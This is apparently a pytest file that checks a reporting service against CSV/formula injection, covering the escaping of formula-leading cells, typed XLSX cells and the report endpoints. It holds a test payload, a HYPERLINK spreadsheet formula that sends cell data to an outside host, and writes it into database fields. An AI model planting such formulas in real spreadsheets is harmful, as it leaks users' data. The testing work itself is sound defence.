"""Files for spreadsheets: whatever route sends them, no cell of theirs is a formula."""

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import psycopg
import pytest
from openpyxl import load_workbook

from service import cells
from tests.conftest import ROOT
from tests.reports.conftest import Town, town

__all__ = ["town"]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PAYLOAD = '=HYPERLINK("http://host/"&A1)'
# What people type: in each of these columns a stranger's text may stand.
TYPED = (
    "UPDATE activities SET title = '{0}', place = '{0}', content = '{0}'",
    "UPDATE people_units SET name = '{0}'",
    "UPDATE people_staff SET title = '{0}'",
    "UPDATE shops SET name = '{0}'",
    "UPDATE shops_goods SET name = '{0}'",
    "UPDATE programmes SET name = '{0}'",
)


@pytest.mark.parametrize("begin", BEGINS)
def test_a_cell_that_begins_as_a_formula_does_is_marked(begin: str) -> None:
    text = io.StringIO(newline="")
    cells.Lines(text).write([begin + "SUM(A1)", "a" + begin, 5, -5, "-5.25", None])
    (row,) = csv.reader(io.StringIO(text.getvalue(), newline=""))
    assert row == [f"'{begin}SUM(A1)", "a" + begin, "5", "-5", "-5.25", ""]


def test_a_long_number_keeps_its_digits_and_carries_no_formula() -> None:
    text = io.StringIO(newline="")
    cells.Lines(text).write([cells.long_number("20251018000123"), cells.long_number("=1+1")])
    assert text.getvalue() == "\t20251018000123,'=1+1\r\n"


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        (b"1,plain,2025-10-18\n", b"1,plain,2025-10-18\n"),
        (b"1,-5,-2.50\n", b"1,-5,-2.50\n"),
        (b'1,"a, =b",=1+1\n', b'1,"a, =b",\'=1+1\n'),
        (b'"=1,2",x\n', b'"\'=1,2",x\n'),
        ("1,＝1\n".encode(), "1,'＝1\n".encode()),
        (b'1,"two\n=lines"\n', b'1,"two\n=lines"\n'),
    ],
)
def test_a_row_that_the_database_wrote_is_made_harmless(line: bytes, safe: bytes) -> None:
    assert cells.written_by_server(line) == safe


def test_a_workbook_holds_texts_where_texts_were_given() -> None:
    sink = io.BytesIO()
    with cells.workbook(sink, in_memory=True) as book:
        book.set_properties({"created": datetime(2025, 10, 18, tzinfo=UTC).replace(tzinfo=None)})
        book.add_worksheet().write_row(0, 0, [PAYLOAD, "http://host/", -5])
    row = next(load_workbook(io.BytesIO(sink.getvalue())).worksheets[0].iter_rows())
    assert [(cell.value, cell.data_type) for cell in row] == [
        (PAYLOAD, "s"), ("http://host/", "s"), (-5, "n")
    ]  # fmt: skip
    assert all(cell.hyperlink is None for cell in row)


def test_tables_are_written_in_one_place() -> None:
    writers = re.compile(r"csv\.(?:writer|DictWriter)\(|(?:xlsxwriter\.|\b)Workbook\(|FORMAT csv")
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("service", "workers")
        for path in ROOT.glob(f"{folder}/**/*.py")
        if writers.search(path.read_text("utf-8"))
    }
    # Reads a shop's file; and the database writes a pack's tables, row by row through cells.
    assert found == {"service/cells.py", "service/evidence/sources.py", "service/packs/writing.py"}
    assert "written_by_server" in (ROOT / "service/packs/writing.py").read_text("utf-8")


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_statement_is_a_formula(town: Town, admin: psycopg.Connection, form: str) -> None:
    for sql in TYPED:
        admin.execute(sql.format(PAYLOAD).encode())
    path = f"/desk/reports/community/FM/file.{form}?month=2025-10"
    answer = town.client.get(path, headers=town.headers("U-SEC"))
    assert answer.status_code == 200
    assert not formulas(answer.data)


def formulas(data: bytes) -> list[str]:
    """Return what a spreadsheet would calculate in a file."""
    if data[:2] != b"PK":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        found = [cell for row in rows for cell in row if cell.startswith(BEGINS)]
        return [cell for cell in found if not re.fullmatch(r"-\d+(\.\d+)?|\t[\w.:-]+", cell)]
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        if "xl/workbook.xml" in parts.namelist():
            sheets = load_workbook(io.BytesIO(data)).worksheets
            every = (cell for sheet in sheets for row in sheet.iter_rows() for cell in row)
            return [str(cell.value) for cell in every if cell.data_type == "f"]
        inside = [name for name in parts.namelist() if name.endswith((".csv", ".xlsx"))]
        return [one for name in inside for one in formulas(parts.read(name))]
